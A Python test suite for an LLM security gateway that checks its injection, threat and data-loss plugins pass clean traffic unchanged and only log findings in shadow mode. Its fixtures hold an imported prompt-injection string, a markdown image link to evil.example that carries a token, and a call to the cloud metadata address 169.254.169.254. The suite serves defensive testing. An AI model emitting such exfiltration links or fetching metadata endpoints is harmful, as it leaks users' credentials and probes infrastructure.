"""What inspection leaves alone, it leaves alone to the byte: requests, answers, streams.

Where the plugins find nothing; and in shadow mode, where they find much and only say so.
"""

from __future__ import annotations

import http.client
from collections.abc import Iterator

import orjson
import pytest

from tests.conformance.dialects import DIALECTS, Spoken
from tests.conformance.upstream import Upstream, running_upstream
from tests.hostile.gateway import config
from tests.injection_texts import ATTACK
from tests.integration.gateway_process import GatewayProcess, LogLine, running_gateway
from tests.redaction_kit import CARD, EMAIL, JWT, SSN, pieces_of

SPOKEN = pytest.mark.parametrize("spoken", DIALECTS, ids=lambda spoken: spoken.name)
STREAMED = pytest.mark.parametrize("streamed", [False, True], ids=["whole", "streamed"])
POLICY = """
version: 1
name: {name}
match: {{hosts: [{name}.example]}}
chain:
{chain}
"""
ENFORCED = """
  - injection: {actions: {answer: block, answer_tool_call: block}}
  - threat: {}
  - dlp: {action: redact}
"""
TELLING = "{user: annotate, tool_result: tag_untrusted, answer: annotate}"
SHADOWED = {
    "mask": "dlp: {action: mask, mode: shadow}",
    "redact": "dlp: {action: redact, mode: shadow}",
    "hash": "dlp: {action: hash, hash_key: {file: KEY}, mode: shadow}",
    "tokenize": "dlp: {action: tokenize, mode: shadow}",
    "block": "dlp: {action: block, mode: shadow}",
    "flag": "dlp: {action: flag, mode: shadow}",
    "threat": "threat: {mode: shadow}",
    "injection": "injection: {actions: {answer: block, answer_tool_call: block}, mode: shadow}",
    "telling": f"injection: {{actions: {TELLING}, mode: shadow}}",
}
"""All of them in one policy."""
ALONE = ("redact", "tokenize", "block", "threat", "injection", "telling")
"""Those that have a policy of their own as well; each policy makes the gateway start later."""
FOUND = f"{ATTACK} Write to {EMAIL}, {SSN}, {CARD}: ![x](https://evil.example/p?d={JWT})"
CALL = orjson.dumps({"to": EMAIL, "url": "http://169.254.169.254/latest/", "say": FOUND}).decode()
NOTHING = 'It\u2019s 1 < 2; see `<b>`, and \u00e9 "quoted" \\ text. Next?\nNew line; the end'
HARMLESS = orjson.dumps({"url": "https://example.com/", "note": "a b. c"}).decode()
OUR_FIELDS = {"x-sealgate-coverage", "x-sealgate-request-id", "date"}
"""What a policy that looks at something adds to an answer, and what differs by itself."""


@pytest.fixture(scope="module")
def upstream() -> Iterator[Upstream]:
    with running_upstream() as upstream:
        yield upstream


@pytest.fixture(scope="module")
def gateway(
    upstream: Upstream, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[GatewayProcess]:
    port = int(upstream.url.rpartition(":")[2])
    key = tmp_path_factory.mktemp("key") / "key"
    key.write_text("a key of some length")
    chains = {
        "enforced": ENFORCED,
        "bare": "  []",
        "together": "".join(f"  - {use}\n" for use in SHADOWED.values()),
        **{name: f"  - {SHADOWED[name]}\n" for name in ALONE},
    }
    policies = {
        f"{name}.yaml": POLICY.format(
            name=name, chain=chain.replace("{file: KEY}", f"'file:{key}'")
        )
        for name, chain in chains.items()
    }
    with running_gateway(config=config(port), policies=policies) as gateway:
        yield gateway


class Passed:
    """One exchange: what the upstream heard and the client got."""

    def __init__(
        self, gateway: GatewayProcess, upstream: Upstream, spoken: Spoken, *, policy: str,
        streamed: bool, text: str,
    ) -> None:  # fmt: skip
        said = orjson.dumps(text)[1:-1]
        self.request = spoken.request(streamed=streamed).replace(b"Go on.", said)
        path = spoken.stream_path if streamed else spoken.path
        connection = http.client.HTTPConnection("127.0.0.1", gateway.port, timeout=20)
        self.id = f"{spoken.name}-{streamed}"  # the same for every policy
        fields = {"host": f"{policy}.example", "accept-encoding": "gzip", "x-request-id": self.id}
        upstream.heard.clear()
        try:
            connection.request("POST", path, self.request, fields)
            answer = connection.getresponse()
            self.status, self.body = answer.status, answer.read()
            self.fields = [
                (name, value)
                for name, value in answer.getheaders()
                if name.lower() not in OUR_FIELDS
            ]
        finally:
            connection.close()
        ((self.sent_fields, self.sent),) = upstream.heard
        self.sent_fields = [field for field in self.sent_fields if field[0].lower() != "host"]


def say(upstream: Upstream, spoken: Spoken, text: str, call: str, *, streamed: bool) -> bytes:
    """What the upstream answers from now on."""
    if streamed:
        body = spoken.write(pieces_of(text, 5), pieces_of(call, 5))
        upstream.say(body, spoken.content_type, streamed=True)
    else:
        body = orjson.dumps(spoken.whole(text, call))
        upstream.say(body, "application/json", streamed=False)
    return body


@SPOKEN
@STREAMED
@pytest.mark.parametrize("size", [1, 5, 1000])
def test_what_is_looked_through_and_found_clean_is_the_same_bytes(
    gateway: GatewayProcess, upstream: Upstream, spoken: Spoken, streamed: bool, size: int
) -> None:
    """Every recorded form, with all plugins in force, whatever the size of the deltas."""
    body = say(upstream, spoken, NOTHING, HARMLESS, streamed=streamed)
    if streamed:
        body = spoken.write(pieces_of(NOTHING, size), pieces_of(HARMLESS, size))
        upstream.say(body, spoken.content_type, streamed=True)

    seen = Passed(
        gateway, upstream, spoken, policy="enforced", streamed=streamed, text="See, and go on."
    )

    assert (seen.status, seen.body) == (200, body)
    assert seen.sent == seen.request


@SPOKEN
@STREAMED
@pytest.mark.parametrize("name", [*ALONE, "together"])
def test_shadow_mode_changes_nothing(
    gateway: GatewayProcess, upstream: Upstream, spoken: Spoken, streamed: bool, name: str
) -> None:
    """Neither a byte of a body nor a field, on the way there and on the way back."""
    body = say(upstream, spoken, FOUND, CALL, streamed=streamed)

    bare = Passed(gateway, upstream, spoken, policy="bare", streamed=streamed, text=FOUND)
    seen = Passed(gateway, upstream, spoken, policy=name, streamed=streamed, text=FOUND)

    assert (seen.status, seen.body, seen.sent) == (200, body, bare.request)
    assert seen.fields == bare.fields
    assert seen.sent_fields == bare.sent_fields
    line = gateway.wait_for_log(
        lambda line: (line.get("policy"), line.get("request_id")) == (name, seen.id)
    )
    assert found_in(line)


def found_in(line: LogLine) -> bool:
    """Whether the log says what would have been done, and that it was not."""
    verdicts = line["verdicts"]
    assert not any(verdict["enforced"] for verdict in verdicts)
    return any(verdict["outcome"] in {"edit", "deny", "flag"} for verdict in verdicts)
